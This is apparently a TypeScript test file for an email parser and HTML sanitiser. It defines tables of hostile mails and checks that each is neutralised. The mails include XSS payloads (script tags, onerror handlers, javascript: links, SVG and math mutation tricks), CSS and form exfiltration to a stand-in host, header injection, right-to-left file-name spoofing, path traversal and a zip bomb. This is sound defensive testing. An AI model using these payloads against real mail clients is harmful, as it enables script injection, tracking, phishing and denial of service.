import { deflateRawSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import type { Mail } from './mail.ts'
import { readMail } from './read.ts'

/** One mail of the table: how it is built, and what must come of it. Null: it is not read, and kept as it came. */
interface HostileMail {
  name: string
  mail: string | Buffer
  becomes: Partial<Mail> | ((mail: Mail) => void) | null
}

const HEADS = ['From: Ann Broker <ann@broker.example>', 'To: uw@carrier.example', 'Subject: Roof', 'MIME-Version: 1.0']
const lines = (...all: string[]) => all.join('\r\n')
const mailWith = (heads: readonly string[], body: string, more: readonly string[] = HEADS) =>
  lines(...more, ...heads, '', body)
const html = (body: string) => mailWith(['Content-Type: text/html; charset=utf-8'], body)
const text = (body: string, ...heads: string[]) => mailWith(['Content-Type: text/plain; charset=utf-8', ...heads], body)
const headed = (...heads: string[]) => lines(...heads, 'Content-Type: text/plain', '', 'Hello')
const multipart = (...parts: string[]) =>
  mailWith(
    ['Content-Type: multipart/mixed; boundary=part'],
    lines(...parts.map((part) => `--part\r\n${part}`), '--part--', ''),
  )
const HELLO = lines('Content-Type: text/plain', '', 'Hello')
const file = (name: string, content: Buffer | string, type = 'application/octet-stream') =>
  lines(
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(content).toString('base64'),
  )

/** The body has this html and nothing else. */
const leaves = (expected: string) => (mail: Mail) => expect(mail.html.trim()).toBe(expected)
const leavesText = (expected: string) => (mail: Mail) => expect(mail.text).toBe(expected)
const shows = (expected: string) => (mail: Mail) => expect(mail.html).toContain(expected)

function nested(depth: number, disposition: string): string {
  const inside = depth === 0 ? HELLO : nested(depth - 1, disposition)
  return lines(
    `Subject: Level ${depth}`,
    'Content-Type: message/rfc822',
    `Content-Disposition: ${disposition}`,
    '',
    inside,
  )
}
const nestedParts = (depth: number): string =>
  depth === 0
    ? HELLO
    : lines(
        `Content-Type: multipart/mixed; boundary=b${depth}`,
        '',
        `--b${depth}`,
        nestedParts(depth - 1),
        `--b${depth}--`,
      )

/** A small archive whose one file unpacks to 32 MB of zeros. */
const ZIP_OF_DEATH = Buffer.concat([
  Buffer.from('PK\x03\x04', 'latin1'),
  deflateRawSync(Buffer.alloc(32 * 1024 * 1024)),
])

const SCRIPTS: HostileMail[] = [
  { name: 'a script', mail: html('<script>alert(1)</script><p>x</p>'), becomes: leaves('<p>x</p>') },
  {
    name: 'a script in capitals with a space in its end tag',
    mail: html('<SCRIPT>alert(1)</SCRIPT ><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  { name: 'a script that is never closed', mail: html('<p>x</p><script>alert(1)'), becomes: leaves('<p>x</p>') },
  {
    name: 'a script inside a broken tag',
    mail: html('<img """><script>alert(1)</script>"><p>x</p>'),
    becomes: shows('<p>x</p>'),
  },
  {
    name: 'a script split by another script',
    mail: html('<scr<script>ipt>alert(1)</scr</script>ipt>'),
    becomes: (mail) => expect(mail.html).not.toMatch(/<script/i),
  },
  {
    name: 'a script behind NUL bytes',
    mail: html('<scr\0ipt>alert(1)</scr\0ipt><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  { name: 'an event handler of a picture', mail: html('<img src=x onerror=alert(1)>'), becomes: leaves('<img />') },
  { name: 'an event handler after a slash', mail: html('<p/onclick=alert(1)>x</p>'), becomes: leaves('<p>x</p>') },
  {
    name: 'an event handler of the body',
    mail: html('<body onload=alert(1)><p>x</p></body>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a script address of a link',
    mail: html('<a href="javascript:alert(1)">x</a>'),
    becomes: (mail) => expect(mail.html).not.toContain('href='),
  },
  {
    name: 'a script address written with entities',
    mail: html('<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>'),
    becomes: (mail) => expect(mail.html).not.toContain('href='),
  },
  {
    name: 'a script address with a line break',
    mail: html('<a href="java&#x0A;script:alert(1)">x</a>'),
    becomes: (mail) => expect(mail.html).not.toContain('href='),
  },
  {
    name: 'a script as the address of a picture',
    mail: html('<img src="javascript:alert(1)" alt="x">'),
    becomes: leaves('<img alt="x" />'),
  },
  {
    name: 'a page as the address of a picture',
    mail: html('<img src="data:text/html;base64,PHNjcmlwdD4=" alt="x">'),
    becomes: leaves('<img alt="x" />'),
  },
  {
    name: 'a drawing with a script',
    mail: html('<svg onload=alert(1)><script>alert(1)</script></svg><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a drawing whose style hides a picture',
    mail: html('<svg><style><img src=x onerror=alert(1)></style></svg><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a drawing that animates an address',
    mail: html('<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg><p>x</p>'),
    becomes: shows('<p>x</p>'),
  },
  {
    name: 'a formula that changes how the rest is parsed',
    mail: html('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
    becomes: (mail) => expect(mail.html).not.toContain('<img src'),
  },
  {
    name: 'a comment that ends early',
    mail: html('<!--><img src=x onerror=alert(1)>--><p>x</p>'),
    becomes: shows('<p>x</p>'),
  },
  {
    name: 'a frame with a page of its own',
    mail: html('<iframe srcdoc="<script>alert(1)</script>"></iframe><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'an object and an embedded program',
    mail: html('<object data="x.swf"><embed src="x.swf"></object><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a text area that hides a picture',
    mail: html('<textarea><img src=x onerror=alert(1)></textarea><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a picture hidden in what browsers without scripts show',
    mail: html('<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>'),
    becomes: (mail) => expect(mail.html).not.toContain('onerror=alert(1)>"'),
  },
  {
    name: 'text in plain text that looks like html',
    mail: text('<script>alert(1)</script>'),
    becomes: shows('&lt;script&gt;alert(1)&lt;/script&gt;'),
  },
]

const REQUESTS: HostileMail[] = [
  {
    name: 'a picture from the internet',
    mail: html('<img src="https://t.example/p.gif?id=1&amp;x=2" alt="x">'),
    becomes: { html: '<img alt="x" data-remote-src="https://t.example/p.gif?id=1&amp;x=2" />', hasRemoteContent: true },
  },
  {
    name: 'a picture without a scheme',
    mail: html('<img src="//t.example/p.gif">'),
    becomes: { html: '<img data-remote-src="https://t.example/p.gif" />', hasRemoteContent: true },
  },
  {
    name: 'a picture in several sizes',
    mail: html('<img srcset="https://t.example/p.gif 2x">'),
    becomes: { html: '<img />', hasRemoteContent: false },
  },
  {
    name: 'a picture that pretends to be neutral already',
    mail: html('<img data-remote-src="javascript:alert(1)">'),
    becomes: { html: '<img />', hasRemoteContent: false },
  },
  {
    name: 'a picture on the network of the reader',
    mail: html('<img src="file://server/share/p.gif"><img src="\\\\server\\share">'),
    becomes: { html: '<img /><img />', hasRemoteContent: false },
  },
  {
    name: 'a background from the internet',
    mail: html('<p style="color:red;background:url(https://t.example/p)">x</p>'),
    becomes: leaves('<p style="color:red">x</p>'),
  },
  {
    name: 'a background written with an escape',
    mail: html('<p style="background-color:u\\72l(https://t.example/p)">x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a background as an attribute',
    mail: html('<table background="https://t.example/p"><tr><td>x</td></tr></table>'),
    becomes: (mail) => expect(mail.html).not.toContain('t.example'),
  },
  {
    name: 'a style sheet that sends what is typed',
    mail: html('<style>input[value^=a]{background:url(https://t.example/a)}</style><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a style sheet from the internet',
    mail: html(
      '<style>@import "https://t.example/x.css";</style><link rel=stylesheet href=https://t.example/x.css><p>x</p>',
    ),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a style that covers the page',
    mail: html('<p style="position:fixed;inset:0;z-index:9;color:red">x</p>'),
    becomes: leaves('<p style="color:red">x</p>'),
  },
  {
    name: 'a style with an expression',
    mail: html('<p style="width:expression(alert(1));height:-moz-binding">x</p>'),
    becomes: (mail) => expect(mail.html).not.toContain('expression'),
  },
  {
    name: 'another address to start from',
    mail: html('<base href="https://t.example/"><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a jump to elsewhere',
    mail: html('<meta http-equiv="refresh" content="0;url=https://t.example"><p>x</p>'),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a form for a password',
    mail: html('<form action="https://t.example"><input name=password><button>Go</button></form><p>x</p>'),
    becomes: (mail) => expect(mail.html).not.toMatch(/<(form|input|button)/),
  },
  {
    name: 'a video and a sound',
    mail: html(
      '<video poster="https://t.example/p" src="https://t.example/v"></video><audio src="https://t.example/a"></audio><p>x</p>',
    ),
    becomes: leaves('<p>x</p>'),
  },
  {
    name: 'a link into the product',
    mail: html('<a href="/rest/Session">x</a><a href="//x">y</a>'),
    becomes: leaves('<a>x</a><a>y</a>'),
  },
  {
    name: 'a link to another site than its text says',
    mail: html('<a href="https://evil.example/">https://bank.example/</a>'),
    becomes: leaves('<a href="https://evil.example/" title="https://evil.example/">https://bank.example/</a>'),
  },
]

const SENDERS: HostileMail[] = [
  {
    name: 'a name that is the address of somebody else',
    mail: headed('From: "ceo@carrier.example" <thief@evil.example>'),
    becomes: { from: { name: '', address: 'thief@evil.example' } },
  },
  {
    name: 'a name with the address of somebody else in coded words',
    mail: headed('From: =?utf-8?B?Y2VvQGNhcnJpZXIuZXhhbXBsZQ==?= <thief@evil.example>'),
    becomes: { from: { name: '', address: 'thief@evil.example' } },
  },
  {
    name: 'a name that is written from right to left',
    mail: headed('From: =?utf-8?Q?=E2=80=AEnnA?= <ann@broker.example>'),
    becomes: { from: { name: 'nnA', address: 'ann@broker.example' } },
  },
  {
    name: 'a domain in letters that look like others',
    mail: headed('From: Ann <ann@xn--brker-jua.example>'),
    becomes: { from: { name: 'Ann', address: 'ann@xn--brker-jua.example' } },
  },
  {
    name: 'an address with a line break and another header',
    mail: headed('From: =?utf-8?Q?Ann=0D=0ABcc:_all=40carrier.example?= <ann@broker.example>'),
    becomes: (mail) => expect(JSON.stringify(mail.from)).not.toMatch(/\\[rn]/),
  },
  {
    name: 'a subject with a line break and another header',
    mail: headed('Subject: =?utf-8?Q?Roof=0D=0ABcc:_all=40carrier.example?='),
    becomes: { subject: 'Roof Bcc: all@carrier.example', cc: [] },
  },
  {
    name: 'a subject that is written from right to left',
    mail: headed('Subject: =?utf-8?Q?invoice=E2=80=AEfdp.exe?='),
    becomes: { subject: 'invoicefdp.exe' },
  },
  {
    name: 'an address that is none',
    mail: headed('From: <not an address>', 'To: @, <a@b@c.example>'),
    becomes: ({ from, to }) => expect([from?.address ?? '', ...to.map(({ address }) => address)].join('')).toBe(''),
  },
  {
    name: 'two senders and two subjects',
    mail: headed('From: one@a.example', 'From: two@b.example', 'Subject: One', 'Subject: Two'),
    becomes: { from: { name: '', address: 'two@b.example' }, subject: 'Two' },
  },
  {
    name: 'a thousand recipients',
    mail: headed(`To: ${Array.from({ length: 1000 }, (_, at) => `p${at}@a.example`).join(',\r\n ')}`),
    becomes: ({ to }) => expect(to).toHaveLength(500),
  },
  {
    name: 'a Message-ID with a line break, and references without brackets',
    mail: headed('Message-ID: <a b@c>', 'References: x@y ><'),
    becomes: { messageId: null, references: [] },
  },
  { name: 'a date that is none', mail: headed('Date: the day after tomorrow'), becomes: { sent: null } },
  { name: 'a date in the year 99999', mail: headed('Date: Mon, 1 Jan 99999 00:00:00 +0000'), becomes: { sent: null } },
]

const BROKEN: HostileMail[] = [
  { name: 'nothing at all', mail: '', becomes: { subject: '', from: null, text: '', attachments: [] } },
  { name: 'only line breaks', mail: '\r\n\r\n\r\n', becomes: { subject: '', attachments: [] } },
  { name: 'heads without a body', mail: lines(...HEADS), becomes: { subject: 'Roof', text: '' } },
  {
    name: 'only an attachment',
    mail: mailWith([], '').replace(/\r\n\r\n$/, `\r\n${file('Survey.pdf', '%PDF-1.4')}`),
    becomes: ({ text, attachments }) =>
      expect([text, attachments.map(({ name }) => name)]).toEqual(['', ['Survey.pdf']]),
  },
  {
    name: 'random bytes',
    mail: Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 7919) % 256)),
    becomes: ({ html }) => expect(html).not.toContain('\0'),
  },
  { name: 'NUL bytes in the text', mail: text('Hel\0lo'), becomes: leavesText('Hello') },
  {
    name: 'an alphabet that does not exist',
    mail: mailWith(['Content-Type: text/plain; charset=klingon'], 'Hello'),
    becomes: leavesText('Hello'),
  },
  {
    name: 'text in another alphabet than it says',
    mail: Buffer.concat([Buffer.from(text('Dach ')), Buffer.from([0xfc, 0x62])]),
    becomes: ({ text }) => expect(text).toBe('Dach \ufffdb'),
  },
  {
    name: 'an alphabet in which a tag looks like text',
    mail: mailWith(['Content-Type: text/html; charset=utf-7'], '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>x</p>'),
    becomes: (mail) => expect(mail.html).not.toContain('<script'),
  },
  {
    name: 'parts without an end',
    mail: mailWith(['Content-Type: multipart/mixed; boundary=part'], lines('--part', HELLO)),
    becomes: leavesText('Hello'),
  },
  {
    name: 'parts without a boundary',
    mail: mailWith(['Content-Type: multipart/mixed'], 'Hello'),
    becomes: { attachments: [] },
  },
  {
    name: 'a boundary that is also the text',
    mail: mailWith(['Content-Type: multipart/mixed; boundary=""'], lines('--', HELLO, '----')),
    becomes: { attachments: [] },
  },
  {
    name: 'base64 that is none',
    mail: multipart(
      HELLO,
      lines(
        'Content-Type: image/png',
        'Content-Transfer-Encoding: base64',
        'Content-Disposition: attachment; filename=a.png',
        '',
        '%%%%',
      ),
    ),
    becomes: ({ text, attachments }) => expect([text, attachments.length]).toEqual(['Hello', 1]),
  },
  { name: 'a header of a megabyte', mail: text('Hello', `X-Long: ${'x'.repeat(1024 * 1024)}`), becomes: null },
  {
    name: 'a hundred thousand headers',
    mail: text('Hello', Array.from({ length: 100_000 }, (_, at) => `X-${at}: x`).join('\r\n')),
    becomes: null,
  },
  { name: 'a thousand parts', mail: multipart(...Array.from({ length: 1000 }, () => HELLO)), becomes: null },
  { name: 'parts inside parts, 500 deep', mail: lines('MIME-Version: 1.0', nestedParts(500)), becomes: null },
  {
    name: 'mails inside mails, 50 deep, to be shown',
    mail: multipart(HELLO, nested(50, 'inline')),
    becomes: ({ text, attachments }) =>
      expect([text, attachments.map(({ name }) => name)]).toEqual(['Hello', ['Attachment 1.eml']]),
  },
  {
    name: 'mails inside mails, 50 deep, as files',
    mail: multipart(HELLO, nested(50, 'attachment; filename=Mail.eml')),
    becomes: ({ attachments }) => expect(attachments.map(({ name }) => name)).toEqual(['Mail.eml']),
  },
  { name: 'fifty thousand elements inside each other', mail: html(`${'<div>'.repeat(50_000)}x`), becomes: shows('x') },
  { name: 'html of 20 MB', mail: html('<p>x</p>'.repeat((20 * 1024 * 1024) / 8)), becomes: null },
  {
    name: 'a mail of 40 MB',
    mail: Buffer.concat([Buffer.from(text('')), Buffer.alloc(40 * 1024 * 1024, 'x\n')]),
    becomes: null,
  },
]

const FILES: HostileMail[] = [
  {
    name: 'a zip of death',
    mail: multipart(HELLO, file('Files.zip', ZIP_OF_DEATH, 'application/zip')),
    becomes: ({ attachments: [zip] }) => expect(zip!.content.equals(ZIP_OF_DEATH)).toBe(true),
  },
  {
    name: 'winmail.dat',
    mail: multipart(HELLO, file('winmail.dat', Buffer.from('789f3e22', 'hex'), 'application/ms-tnef')),
    becomes: ({ attachments: [dat] }) =>
      expect(dat).toMatchObject({ name: 'winmail.dat', content: Buffer.from('789f3e22', 'hex') }),
  },
  {
    name: 'a file name that is a path',
    mail: multipart(HELLO, file('../../etc/passwd', 'x')),
    becomes: ({ attachments: [one] }) => expect(one!.name).toBe('passwd'),
  },
  {
    name: 'a file name that is written from right to left',
    mail: multipart(
      HELLO,
      lines(
        'Content-Type: application/pdf',
        "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
        '',
        'x',
      ),
    ),
    becomes: ({ attachments: [one] }) => expect(one!.name).toBe('invoicefdp.exe'),
  },
  {
    name: 'a file name with a line break',
    mail: multipart(
      HELLO,
      lines('Content-Type: application/pdf', "Content-Disposition: attachment; filename*=utf-8''a%0D%0Ab.pdf", '', 'x'),
    ),
    becomes: ({ attachments: [one] }) => expect(one!.name).toBe('a b.pdf'),
  },
  {
    name: 'a file without a name',
    mail: multipart(HELLO, lines('Content-Type: application/pdf', '', 'x')),
    becomes: ({ attachments: [one] }) => expect(one!.name).toBe('Attachment 1.pdf'),
  },
  {
    name: 'a page sent as a picture',
    mail: multipart(
      lines('Content-Type: text/html', '', '<img src="cid:p"><p>x</p>'),
      lines(
        'Content-Type: text/html',
        'Content-ID: <p>',
        'Content-Disposition: attachment; filename=p.png',
        '',
        '<script>alert(1)</script>',
      ),
    ),
    becomes: shows('<img src="cid:p" />'),
  },
  {
    name: 'a picture written into the html',
    mail: html('<img src="data:image/png;base64,iVBORw0KGgo=">'),
    becomes: {
      html: '<img src="cid:picture-1@html" />',
      attachments: [
        {
          name: 'Picture 1.png',
          mediaType: 'image/png',
          contentId: 'picture-1@html',
          content: Buffer.from('iVBORw0KGgo=', 'base64'),
        },
      ],
    },
  },
  {
    name: 'a content id that ends its attribute',
    mail: html(`<img src='cid:x"onerror="alert(1)'><p>x</p>`),
    becomes: leaves('<img /><p>x</p>'),
  },
]

const TAGS = new Set(
  'a abbr address article aside b bdi bdo blockquote br caption center cite code col colgroup data dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li main mark menu nav ol p pre q rb rp rt rtc ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'style align valign bgcolor color width height dir title alt href src data-remote-src size face border cellpadding cellspacing colspan rowspan'.split(
    ' ',
  ),
)

/** Holds for the html of every mail, whatever came in: each < begins a known tag that has known attributes only. */
function expectHarmless(html: string) {
  for (const [at] of html.matchAll(/<[^>]*>?/g)) {
    const [, name = '', attributes = ''] = /^<\/?([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)(?: \/)?>$/.exec(at) ?? []
    expect(TAGS, at).toContain(name)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      expect(ATTRIBUTES, at).toContain(attribute)
      if (attribute === 'style') expect(value.replace(/rgba?\([\d.,%\s]+\)/g, '')).not.toMatch(/[(\\@]|position/)
      if (attribute === 'href') expect(value).toMatch(/^(https?|mailto|tel):/)
      if (attribute === 'src') expect(value).toMatch(/^cid:/)
      if (attribute === 'data-remote-src') expect(value).toMatch(/^https?:\/\//)
    }
  }
}

const MAILS = { scripts: SCRIPTS, requests: REQUESTS, senders: SENDERS, 'broken mails': BROKEN, files: FILES }

describe.each(Object.entries(MAILS))('%s', (_, mails) => {
  test.each(mails)('$name', async ({ mail, becomes }) => {
    const reading = readMail(Buffer.from(mail), false)
    if (becomes === null) {
      await expect(reading).rejects.toMatchObject({ status: 415 })
      return
    }
    const read = await reading
    expectHarmless(read.html)
    if (typeof becomes === 'function') becomes(read)
    else expect(read).toMatchObject(becomes)
  })
})

test('after all of these a mail is read as before', async () => {
  expect(await readMail(Buffer.from(text('Hello')), false)).toMatchObject({ subject: 'Roof', text: 'Hello' })
})
